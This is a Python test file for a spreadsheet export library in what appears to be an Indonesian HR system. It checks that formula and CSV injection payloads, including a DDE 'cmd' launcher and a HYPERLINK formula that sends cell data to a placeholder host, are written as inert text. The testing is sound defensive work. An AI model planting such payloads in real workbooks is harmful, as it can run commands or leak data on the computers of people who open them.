import datetime as dt
import io
import re
import tracemalloc
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lib.berkas.reader import read_table
from lib.berkas.sheetxml import CONTROLS
from lib.berkas.writer import Cell, Column, Sheet, write_workbook

HEADS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\t", "\r", "\n", " =", "＝", "＋", "－", "＠", "'=", "|", "%"]
BODIES = ["1+1", 'HYPERLINK("http://contoh.id?x="&A1,"klik")', "cmd|' /C calc'!A0", 'SUM(1)*DDE("a";"b")']
PAYLOADS = [head + body for head in HEADS for body in BODIES] + [
    "<f>1+1</f>",
    "</t></is></c><c><f>1</f></c>",
    "]]>",
    "&lt;f&gt;",
    "_x003D_1+1",
]
MOMENT = dt.datetime.fromisoformat("2026-11-24T22:15:30")


def write(folder: Path, *sheets: Sheet, notes: tuple[tuple[str, object], ...] = ()) -> Path:
    path = folder / "ekspor.xlsx"
    write_workbook(path, sheets, notes=notes)
    return path


def values(path: Path) -> list[list[Any]]:
    return [row for _, row in read_table(path).rows]


def test_payloads_stay_text_and_come_back_equal(tmp_path: Path) -> None:
    columns = [Column("Isi"), Column("NIP", "nip"), Column("Tanggal", "tanggal"), Column("Panas")]
    path = write(tmp_path, Sheet("Data", columns, ([text, text, text, Cell(text, "teks", "C3E2DE")] for text in PAYLOADS)))
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert len(PAYLOADS) >= 40
    assert re.findall(r"<f[ >/]|t=\"str\"|<hyperlink", xml) == []
    assert values(path) == [[text] * 4 for text in PAYLOADS]
    sheet = openpyxl.load_workbook(path)["Data"]
    assert {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row} == {"s"}
    dangerous = range(2, 2 + len(HEADS) * len(BODIES))
    assert {sheet.cell(row, column).quotePrefix for row in dangerous for column in range(1, 5)} == {True}


def test_every_workbook_and_table_that_leaves_is_written_here() -> None:
    """What an export may not contain is kept out in one place; a second writer, or a CSV, would have to keep it out again."""
    root, apps = Path(__file__).parents[3], ("config", "rencana", "insentif", "evaluasi", "diklat", "kompetensi", "pegawai", "lib")
    other = re.compile(r"\bopenpyxl\b|\bxlsxwriter\b|\bcsv\.(writer|DictWriter)\b|text/csv")
    found = {str(file.relative_to(root)) for app in apps for file in root.glob(f"{app}/**/*.py") if other.search(file.read_text())}
    assert found == {f"lib/berkas/{name}.py" for name in ("__init__", "styles", "writer")}


def test_titles_and_notes_are_text_too(tmp_path: Path) -> None:
    path = write(tmp_path, Sheet("=1+1", [Column("=1+1")], [["a"]]), notes=(("=1+1", "=1+1"),))
    book = openpyxl.load_workbook(path)
    assert [[cell.data_type for cell in row] for sheet in book for row in sheet] == [["s"], ["s"], ["s", "s"], ["s", "s"]]


@settings(max_examples=25, deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=60))
def test_any_text_comes_back_without_its_control_characters(texts: list[str]) -> None:
    target = io.BytesIO()
    write_workbook(target, [Sheet("Data", [Column("No", "angka"), Column("Isi")], enumerate(texts, start=1))])
    sheet = openpyxl.load_workbook(target)["Data"]
    read = [str(row[1].value or "") for row in sheet.iter_rows(min_row=2)]
    expected = [CONTROLS.sub("", text) for text in texts]
    # openpyxl shows the escapes of ECMA-376 22.4.2.4 as they stand in the file
    assert [text.replace("_x000D_", "\r").replace("_x005F_", "_") for text in read] == [text.replace("_x005F_", "_") for text in expected]


def test_every_kind_keeps_its_value(tmp_path: Path) -> None:
    columns = [Column("NIP", "nip"), Column("Nama"), Column("JP", "angka"), Column("Nilai", "desimal"), Column("Capaian", "persen")]
    columns += [Column("TMT", "tanggal"), Column("Waktu", "waktu"), Column("Lulus"), Column("Kosong")]
    row = ["197502252005121001", "Nu'man & <Siti>", 20, Decimal("87.25"), 0.893, dt.date(2020, 2, 29), MOMENT, True, None]
    path = write(tmp_path, Sheet("Data", columns, [row]))
    assert values(path) == [["197502252005121001", "Nu'man & <Siti>", 20.0, 87.25, 0.893, dt.date(2020, 2, 29), MOMENT, "Ya", ""]]
    cells = openpyxl.load_workbook(path)["Data"][2]
    assert [cell.number_format for cell in cells[:7]] == ["@", "General", "#,##0", "#,##0.00", "0.0%", "dd-mm-yyyy", "dd-mm-yyyy hh:mm"]


@pytest.mark.parametrize(
    ("kind", "value", "read"),
    [
        ("nip", 197502252005121001, "197502252005121001"),
        ("angka", 197502252005121001, "197502252005121001"),
        ("angka", -3, -3.0),
        ("desimal", float("nan"), ""),
        ("desimal", float("inf"), ""),
        ("angka", "belum", "belum"),
        ("tanggal", dt.date(1899, 1, 1), "1899-01-01"),
        ("waktu", dt.datetime(2026, 11, 24, 15, 15, 30, tzinfo=dt.UTC), MOMENT),
        ("teks", "x" * 40_000, "x" * 32_766 + "…"),
        ("teks", "a\x00b\x1bc", "abc"),
        ("teks", "baris\r\nbaru ", "baris\r\nbaru "),
    ],
)
def test_awkward_value(tmp_path: Path, kind: Any, value: object, read: object) -> None:
    path = write(tmp_path, Sheet("Data", [Column("A"), Column("B", kind)], [["x", value]]))
    assert values(path) == [["x", read]]


def test_header_panes_filter_and_widths(tmp_path: Path) -> None:
    path = write(tmp_path, Sheet("Peserta", [Column("NIP", "nip"), Column("Nama", width=40)], [["1", "Siti"], ["2", "Budi"]]))
    sheet = openpyxl.load_workbook(path)["Peserta"]
    assert (sheet.freeze_panes, sheet.auto_filter.ref, sheet.print_title_rows) == ("A2", "A1:B3", "$1:$1")
    assert [sheet.column_dimensions[letter].width for letter in "AB"] == [22, 40]
    assert [(cell.value, cell.font.bold, cell.fill.fgColor.rgb) for cell in sheet[1]] == [
        ("NIP", True, "00DCE9E7"),
        ("Nama", True, "00DCE9E7"),
    ]


def test_fill_of_one_cell(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        Sheet("Peta", [Column("Unit"), Column("Int")], [["A", Cell(0.5, "persen", "C3E2DE")], ["B", Cell(None, "persen", "EEEEEE")]]),
    )
    sheet = openpyxl.load_workbook(path)["Peta"]
    assert [(cell.value, cell.number_format, cell.fill.fgColor.rgb) for cell in (sheet["B2"], sheet["B3"])] == [
        (0.5, "0.0%", "00C3E2DE"),
        (None, "0.0%", "00EEEEEE"),
    ]


def test_template_offers_choices_and_hints(tmp_path: Path) -> None:
    columns = [Column("NIP", "nip", hint="18 digit, tanpa spasi"), Column("Jenis", choices=["Klasikal, penuh", "=Nonklasikal"])]
    path = write(tmp_path, Sheet("Isian", columns), notes=(("Dibuat", "24-11-2026"),))
    book = openpyxl.load_workbook(path)
    assert [(sheet.title, sheet.sheet_state) for sheet in book] == [("Isian", "visible"), ("Keterangan", "visible"), ("Pilihan", "hidden")]
    hint, choice = book["Isian"].data_validations.dataValidation
    assert (str(hint.sqref), hint.type, hint.prompt) == ("A2:A5001", None, "18 digit, tanpa spasi")
    assert (str(choice.sqref), choice.type, choice.formula1) == ("B2:B5001", "list", "'Pilihan'!$A$2:$A$3")
    assert [cell.value for cell in book["Pilihan"]["A"]] == ["Jenis", "Klasikal, penuh", "=Nonklasikal"]
    assert book["Isian"].column_dimensions["A"].number_format == "@"


def test_sheet_title_is_made_legal(tmp_path: Path) -> None:
    path = write(tmp_path, *(Sheet("Dinas [A/B]: 'Umum' " + "x" * 40, [Column("A")]) for _ in range(2)))
    titles = openpyxl.load_workbook(path).sheetnames
    assert (len(set(titles)), max(map(len, titles)) <= 31) == (2, True)


def test_a_row_of_the_wrong_width_is_a_bug_not_a_shift(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="zip"):
        write(tmp_path, Sheet("Data", [Column("A"), Column("B")], [["x"]]))


def test_memory_does_not_grow_with_rows(tmp_path: Path) -> None:
    def peak(count: int) -> int:
        tracemalloc.start()
        write(tmp_path, Sheet("Data", [Column("A"), Column("B")], ([f"a{number}", "=b"] for number in range(count))))
        _, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return most

    peak(10)
    assert peak(6_000) < peak(600) + 300_000


def test_readers_that_trust_the_used_range_see_every_cell(tmp_path: Path) -> None:
    """Also of a sheet without rows."""
    rows = [[f"{number:060d}", number] for number in range(3_000)]
    path = write(tmp_path, Sheet("Isi", [Column("A"), Column("B", "angka")], rows), Sheet("Kosong", [Column("A")]), notes=(("a", "b"),))
    book = openpyxl.load_workbook(path, read_only=True)
    assert [sheet.calculate_dimension() for sheet in book] == [f"A1:B{len(rows) + 1}", "A1:A1", "A1:B2"]
    assert list(book["Isi"].iter_rows(min_row=2, values_only=True)) == [tuple(row) for row in rows]
    book.close()


def test_a_year_is_no_amount(tmp_path: Path) -> None:
    path = write(tmp_path, Sheet("Isi", [Column("TAHUN", "tahun"), Column("JP", "angka")], [[2026, 2026]]))
    assert [cell.number_format for cell in openpyxl.load_workbook(path)["Isi"][2]] == ["0", "#,##0"]
